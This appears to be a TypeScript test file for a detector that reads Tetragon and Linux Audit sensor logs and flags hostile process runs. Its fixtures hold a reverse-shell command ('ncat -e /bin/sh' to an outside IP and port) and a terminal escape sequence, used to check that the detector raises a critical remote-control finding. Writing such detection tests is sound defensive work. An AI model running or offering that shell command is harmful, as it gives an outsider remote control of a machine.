/**
 * `watch --from`: hosts that run no cell, judged from what other sensors wrote of them.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { Place } from '../run/place.ts';

let place: Place;
beforeEach(() => {
  place = new Place('user');
});
afterEach(() => place.remove());

const tetragon = (pid: number, binary: string, words: string, node = 'n1.example.com') =>
  JSON.stringify({
    process_exec: {
      process: { pid, uid: 1000, cwd: '/work', binary, arguments: words },
      parent: { pid: 1, binary: '/usr/bin/node', arguments: 'agent.js' },
    },
    node_name: node,
    time: `2026-01-02T03:04:${String(pid % 60).padStart(2, '0')}.5Z`,
  });

function written(...lines: string[]): string {
  const path = join(place.root, 'sensor.log');
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

test('Tetragon: a shell on a connection is found with its line; honest work is not', async () => {
  const hostile = written(
    tetragon(10, '/usr/bin/git', 'status'),
    tetragon(11, '/usr/bin/ncat', '-e /bin/sh 203.0.113.9 4444'),
  );
  const found = await place.command('watch', '--from', 'tetragon', hostile, '--json');
  expect(found.code, found.stderr).toBe(1);
  const findings = found.stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(findings).toMatchObject([
    { cell: 'n1.example.com', hazard: 'remote-control', level: 'critical', cites: [2], pid: 11 },
  ]);
  expect(findings[0]).not.toHaveProperty('response');

  const honest = written(tetragon(10, '/usr/bin/git', 'status'), tetragon(12, '/usr/bin/npm', 'test'));
  const clean = await place.command('watch', '--from', 'tetragon', honest);
  expect(clean).toMatchObject({ code: 0, stdout: '2 lines, nothing found\n' });
});

test('Linux Audit: the same finding from its own records', async () => {
  const id = 'msg=audit(1700000000.250:41):';
  const path = written(
    `type=SYSCALL ${id} arch=c000003e syscall=59 success=yes ppid=10 pid=11 uid=1000 comm="ncat" exe="/usr/bin/ncat" key=(null)`,
    `type=EXECVE ${id} argc=5 a0="ncat" a1="-e" a2="/bin/sh" a3="203.0.113.9" a4="4444"`,
    `type=CWD ${id} cwd="/work"`,
    `type=EOE ${id}`,
  );
  const { code, stdout, stderr } = await place.command('watch', '--from', 'auditd', path);
  expect(code, stderr).toBe(1);
  expect(stdout).toMatch(/critical {2}remote-control: .*\n/);
  expect(stdout).toContain('shown by line 4');
});

test('what cannot be read is said with its line, is no silence, and the rest is judged', async () => {
  const path = written('\u001b]0;owned\u0007', tetragon(10, '/usr/bin/git', 'status'));
  const { code, stdout, stderr } = await place.command('watch', '--from', 'tetragon', path);
  expect(code).toBe(1);
  expect(stdout).toContain('1 lines could not be read');
  expect(stderr).toContain(`${path}:1: not JSON`);
  expect((await place.command('watch', '--from', 'tetragon', join(place.root, 'missing'))).code).toBe(2);
  expect((await place.command('watch', '--from', 'tetragon', '--replay')).code).toBe(2);
});
